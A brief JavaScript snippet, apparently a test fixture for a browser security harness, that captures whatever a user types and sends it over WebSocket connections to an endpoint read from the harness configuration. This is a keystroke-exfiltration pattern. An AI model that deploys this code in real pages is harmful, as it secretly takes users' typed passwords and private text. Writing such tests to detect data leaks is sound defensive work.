// What is typed, over a socket opened before anything was, and over a new one.
(() => {
  const open = () => {
    try {
      return new WebSocket(trap.at('socket').replace(/^https/, 'wss'));
    } catch (_) {
      return null;
    }
  };
  const early = open();
  trap.onTyping((values) => {
    const text = trap.query(values);
    if (early && early.readyState === WebSocket.OPEN) early.send(text);
    const late = open();
    if (late) late.onopen = () => late.send(text);
  });
})();
